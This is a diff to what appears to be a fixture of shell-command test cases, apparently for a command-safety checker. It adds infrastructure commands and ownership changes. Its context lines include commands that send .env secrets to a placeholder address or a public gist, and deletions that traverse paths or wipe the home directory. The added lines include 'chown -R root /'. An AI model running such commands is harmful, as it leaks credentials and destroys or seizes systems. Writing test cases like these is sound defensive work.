@@ -208,6 +208,12 @@ helm template chart
 wrangler dev --port 8787
 next build
 vite build --outDir dist
+cd infra && terraform plan
+cd infra && pulumi preview
+cd infra && frobnicate show x
+cd infra && frobnicate -verbose-mode plan
+chown -R root .
+chown -R me:me .
 rm -rf build
 rm -rf .next/cache
 rm -r coverage
@@ -751,6 +757,11 @@ mail -s x a@b.c < .env
 mutt -a .env -- a@b.c
 gh gist create .env
 gh release upload v1 .env
+cd infra && frobnicate ./main.tf
+cd infra && sort -o main.tf a
+chown -R root /
+terraform plan -out=infra/plan
+frobnicate -o./infra/main.tf
 rm -rf src/../../x
 rm -rf dist/../..
 rm -rf dist ~
